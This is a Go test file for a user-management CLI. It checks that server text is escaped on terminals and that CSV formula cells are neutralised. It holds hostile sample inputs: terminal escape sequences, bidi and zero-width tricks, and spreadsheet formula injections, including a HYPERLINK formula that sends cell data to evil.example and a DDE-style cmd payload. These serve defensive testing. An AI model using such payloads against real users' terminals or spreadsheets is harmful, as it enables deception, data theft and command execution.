package e2e

// Hostile servers, terminal side (issue 12 points 1–2): text a server sends
// never reaches a terminal raw, and CSV cells never run as spreadsheet
// formulas while import reads them back exactly. Each case is one finding of
// the review, driven through the binary against a small server on 127.0.0.1;
// where a terminal matters stdout is a pseudo-terminal.

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// Server text the review used: an OSC title change with BEL, a screen clear,
// a carriage return that rewrites the line and moves the cursor up, an OSC 8
// hyperlink, a bidi override and zero-width characters.
const (
	evilTitle   = "\x1b]0;pwned\x07"
	evilClear   = "\x1b[2J"
	evilHideID  = "x@y.io\r\x1b[2K\x1b[1A"
	evilLink    = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
	evilBidi    = "\u202etxt.exe"
	evilZW      = "ad\u200bmin\u2060"
	evilC1      = "\u009b2J"
	evilFormula = `=HYPERLINK("http://evil.example/?"&A1,"help")`
)

// rawUnsafe are characters none of which may reach a terminal from a server.
const rawUnsafe = "\x1b\x07\r\u202e\u200b\u2060\u009b"

// hostile is an httptest server answering "METHOD /path" with a fixed
// status and body (JSON), 404 otherwise.
func hostile(t *testing.T, routes map[string]string, status map[string]int) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		key := r.Method + " " + r.URL.Path
		body, ok := routes[key]
		if !ok {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusNotFound)
			_, _ = io.WriteString(w, `{"message":"no route `+r.Method+`"}`)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		code := http.StatusOK
		if s, ok := status[key]; ok {
			code = s
		}
		w.WriteHeader(code)
		_, _ = io.WriteString(w, body)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// jsonText is s as a JSON string literal.
func jsonText(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// restUsers is a rest list answer holding one user per name/ID pair.
func restUsers(users ...[2]string) string {
	var parts []string
	for i, u := range users {
		parts = append(parts, fmt.Sprintf(`{"id":%s,"email":"u%d@example.com","name":%s,"status":"active","role":"user"}`,
			jsonText(u[0]), i, jsonText(u[1])))
	}
	return fmt.Sprintf(`{"users":[%s],"total":%d}`, strings.Join(parts, ","), len(users))
}

// wantSafe fails unless s holds none of the raw characters and every
// escaped form.
func wantSafe(t *testing.T, what, s string, escaped ...string) {
	t.Helper()
	if i := strings.IndexAny(s, rawUnsafe); i >= 0 {
		t.Errorf("%s holds a raw unsafe character at %d: %q", what, i, s)
	}
	wantIn(t, what, s, escaped...)
}

// ttyRun runs userctl with stdout on a pseudo-terminal (output processing
// off, so the bytes read are exactly those written) and stderr in a buffer.
func (c *cli) ttyRun(args ...string) result {
	c.t.Helper()
	master, tty := openTTY(c.t)
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, binary, args...)
	cmd.Env = c.environ([]string{"COLUMNS=300"})
	cmd.Dir = c.dir
	var errb strings.Builder
	cmd.Stdout, cmd.Stderr = tty, &errb
	out := make(chan string, 1)
	go func() {
		var b strings.Builder
		buf := make([]byte, 4096)
		for {
			n, err := master.Read(buf)
			b.Write(buf[:n])
			if err != nil { // EIO once the child and we closed the tty
				out <- b.String()
				return
			}
		}
	}()
	err := cmd.Start()
	tty.Close()
	if err != nil {
		c.t.Fatalf("starting userctl: %v", err)
	}
	err = cmd.Wait()
	return c.ended(ctx, err, result{args: args, stdout: <-out, stderr: errb.String()}, runTimeout)
}

// openTTY opens a pseudo-terminal pair with output post-processing off,
// skipping the test when the system has none.
func openTTY(t *testing.T) (master, tty *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminal available: %v", err)
	}
	t.Cleanup(func() { m.Close() })
	fd := int(m.Fd())
	if err := unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0); err != nil {
		t.Skipf("unlockpt: %v", err)
	}
	n, err := unix.IoctlGetInt(fd, unix.TIOCGPTN)
	if err != nil {
		t.Skipf("ptsname: %v", err)
	}
	s, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("opening the pty: %v", err)
	}
	tio, err := unix.IoctlGetTermios(int(s.Fd()), unix.TCGETS)
	if err != nil {
		s.Close()
		t.Fatalf("reading the pty's settings: %v", err)
	}
	tio.Oflag &^= unix.OPOST
	if err := unix.IoctlSetTermios(int(s.Fd()), unix.TCSETS, tio); err != nil {
		s.Close()
		t.Fatalf("turning output processing off: %v", err)
	}
	_ = unix.IoctlSetWinsize(int(s.Fd()), unix.TIOCSWINSZ, &unix.Winsize{Row: 24, Col: 300})
	return m, s
}

func TestHostileServerTerminal(t *testing.T) {
	c := newCLI(t)
	c.set("USERCTL_TOKEN", "e2e-token", "USERCTL_API_KEY", "e2e-api-key", "USERCTL_APP_KEY", "e2e-app-key")

	// A rest server whose users carry every kind of unsafe text.
	users := restUsers(
		[2]string{evilHideID, evilTitle + evilClear + "Ada"},
		[2]string{"usr_2", evilLink + " " + evilBidi + " " + evilZW + " " + evilC1},
	)
	rest := hostile(t, map[string]string{
		"GET /users":         users,
		"GET /users/usr_bad": `{"message":` + jsonText("no such user "+evilTitle+evilClear+"fake: all good "+evilBidi+evilZW) + `}`,
		"POST /users":        `{"message":` + jsonText("rejected "+evilHideID+" "+evilBidi) + `}`,
	}, map[string]int{"GET /users/usr_bad": http.StatusBadRequest, "POST /users": http.StatusBadRequest})
	c.profile("evil", "rest", rest.URL)

	dd := hostile(t, map[string]string{
		"GET /api/v1/user/alice@example.com":    `{"user":{"handle":"alice@example.com","email":"alice@example.com","name":"Alice","disabled":false}}`,
		"DELETE /api/v1/user/alice@example.com": `{"message":` + jsonText(evilTitle+evilClear+"User alice deleted; nothing else happened") + `}`,
	}, nil)
	c.profile("dd", "datadog", dd.URL)

	ud := hostile(t, map[string]string{
		"GET /me/": `{"id":"u1","first_name":` + jsonText(evilTitle+"Root") + `,"last_name":` + jsonText(evilBidi) +
			`,"email":"root@example.com","roles":["admin"]}`,
	}, nil)
	c.profile("gouv", "udata", ud.URL)

	newUsers := filepath.Join(c.dir, "new.csv")
	if err := os.WriteFile(newUsers, []byte("email,name,password\nnew@example.com,New,Passw0rd-long\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	input := filepath.Join(c.dir, "keep.csv")
	if err := os.WriteFile(input, []byte("email,name\nu1@example.com,Kept\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	for _, tc := range []struct {
		name string
		tty  bool // stdout on a pseudo-terminal
		args []string
		code int
		// check inspects the run.
		check func(t *testing.T, r result)
	}{
		{name: "datadog delete message is a notice, escaped", args: []string{"-p", "dd", "users", "delete", "alice@example.com", "--yes"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "stderr", r.stderr, `\x1b]0;pwned\x07\x1b[2JUser alice deleted`)
			}},
		{name: "apply plan shows a hiding ID escaped on its delete line", args: []string{"-p", "evil", "users", "apply", "-f", input, "--prune", "--dry-run"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "stderr", r.stderr, `- delete    u0@example.com (x@y.io\r\x1b[2K\x1b[1A)`)
			}},
		{name: "udata profile check names the account escaped", args: []string{"-p", "gouv", "profile", "check"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "stderr", r.stderr, `OK: \x1b]0;pwned\x07Root \u202etxt.exe <root@example.com>`)
			}},
		{name: "server error message is one escaped line", args: []string{"-p", "evil", "users", "get", "usr_bad"}, code: 2,
			check: func(t *testing.T, r result) {
				line := oneLineError(t, r)
				wantSafe(t, "error", line, `fake: all good \u202etxt.exe`, `ad\u200bmin\u2060`)
			}},
		{name: "import failure lines escaped", args: []string{"-p", "evil", "users", "import", "-f", newUsers}, code: 7,
			check: func(t *testing.T, r result) {
				wantSafe(t, "stderr", r.stderr, `line 2 (new@example.com):`, `\u202etxt.exe`)
			}},
		{name: "table escapes controls, bidi and zero-width", args: []string{"-p", "evil", "users", "list", "--fields", "id,name"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "stdout", r.stdout, `x@y.io\r\x1b[2K\x1b[1A`, `\x1b]0;pwned\x07\x1b[2JAda`,
					`\x1b]8;;http://evil.example/\x1b\click`, `\u202etxt.exe`, `ad\u200bmin\u2060`, `\u009b2J`)
			}},
		{name: "table on a terminal", tty: true, args: []string{"-p", "evil", "users", "list", "--fields", "id,name"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "terminal", r.stdout, `x@y.io\r\x1b[2K\x1b[1A`, `\u202etxt.exe`)
			}},
		{name: "csv on a terminal", tty: true, args: []string{"-p", "evil", "users", "list", "-o", "csv", "--fields", "id,name"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "terminal", r.stdout, `x@y.io\r\x1b[2K\x1b[1A`, `\x1b]8;;http://evil.example/\x1b\click`, `\u202etxt.exe`)
			}},
		{name: "--jq on a terminal", tty: true, args: []string{"-p", "evil", "users", "list", "--jq", ".[] | .id, .name"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "terminal", r.stdout, `x@y.io\r\x1b[2K\x1b[1A`, `\x1b]0;pwned\x07`, `ad\u200bmin\u2060`)
			}},
		{name: "--template on a terminal", tty: true, args: []string{"-p", "evil", "users", "list", "--template", "{{.id}}: {{.name}}"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "terminal", r.stdout, `x@y.io\r\x1b[2K\x1b[1A: \x1b]0;pwned\x07\x1b[2JAda`, `\u009b2J`)
			}},
		{name: "api body on a terminal", tty: true, args: []string{"-p", "evil", "api", "GET", "/users"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "terminal", r.stdout, `\u202etxt.exe`, `\u200b`)
			}},
		{name: "--debug response text", args: []string{"-p", "evil", "--debug", "users", "list", "-o", "json"},
			check: func(t *testing.T, r result) {
				wantSafe(t, "stderr", r.stderr, `\u202etxt.exe`)
			}},
		// Machine formats off a terminal stay exact: a script gets the bytes.
		{name: "--template piped is exact", args: []string{"-p", "evil", "users", "list", "--template", "{{.id}}"},
			check: func(t *testing.T, r result) {
				if r.stdout != evilHideID+"\nusr_2\n" {
					t.Errorf("stdout %q, want the IDs as sent", r.stdout)
				}
			}},
		{name: "json on a terminal decodes to the server's text", tty: true, args: []string{"-p", "evil", "users", "list", "-o", "json"},
			check: func(t *testing.T, r result) {
				var got []struct{ ID, Name string }
				if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || len(got) != 2 || got[0].ID != evilHideID {
					t.Errorf("json: %v %+v", err, got)
				}
				if strings.ContainsAny(r.stdout, "\x1b\x07\r") {
					t.Errorf("raw C0 control in JSON: %q", r.stdout)
				}
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var r result
			if tc.tty {
				r = c.ttyRun(tc.args...)
			} else {
				r = c.run(tc.args...)
			}
			want(t, r, tc.code)
			tc.check(t, r)
		})
	}
}

// CSV cells that would run as formulas are neutralised in `-o csv` and
// `export -o csv`, and import reads them back exactly: the round trip
// export | import keeps every value.
func TestHostileCSVFormulas(t *testing.T) {
	c := newCLI(t)
	c.set("USERCTL_TOKEN", "e2e-token")
	names := []string{evilFormula, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=already quoted", "O'Brien"}
	var pairs [][2]string
	for i, n := range names {
		pairs = append(pairs, [2]string{fmt.Sprintf("usr_%d", i), n})
	}
	src := hostile(t, map[string]string{"GET /users": restUsers(pairs...)}, nil)
	c.profile("src", "rest", src.URL)

	for _, args := range [][]string{{"users", "list", "-o", "csv"}, {"users", "export", "-o", "csv"}} {
		r := c.run(append([]string{"-p", "src"}, args...)...)
		want(t, r, 0)
		wantIn(t, strings.Join(args, " "), r.stdout, `"'=HYPERLINK(""http://evil.example/?""&A1,""help"")"`,
			`'+cmd|' /C calc'!A0`, "'-2+3", "'@SUM(A1:A9)", "''=already quoted", ",O'Brien,")
		for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
			for _, cell := range strings.Split(line, ",") {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: a cell starts with a formula trigger: %q in %q", strings.Join(args, " "), cell, line)
				}
			}
		}
	}

	// Round trip into the rest sandbox. Exports carry no passwords and the
	// rest API needs one: a password column is added, every exported cell
	// is kept as written.
	r := c.run("-p", "src", "users", "export", "-o", "csv")
	want(t, r, 0)
	lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
	for i := range lines {
		if i == 0 {
			lines[i] += ",password"
		} else {
			lines[i] += ",Passw0rd-long"
		}
	}
	file := filepath.Join(c.dir, "export.csv")
	if err := os.WriteFile(file, []byte(strings.Join(lines, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	c.profile("dst", "rest", c.serve("rest"))
	c.set("USERCTL_TOKEN", "sandbox-token")
	r = c.run("-p", "dst", "users", "import", "-f", file)
	want(t, r, 0)
	r = c.run("-p", "dst", "users", "list", "--all", "-o", "json")
	want(t, r, 0)
	var got []struct{ Email, Name string }
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil {
		t.Fatalf("list: %v\n%s", err, r)
	}
	byEmail := map[string]string{}
	for _, u := range got {
		byEmail[u.Email] = u.Name
	}
	for i, n := range names {
		if g := byEmail[fmt.Sprintf("u%d@example.com", i)]; g != n {
			t.Errorf("u%d@example.com: name after export | import = %q, want %q", i, g, n)
		}
	}
}
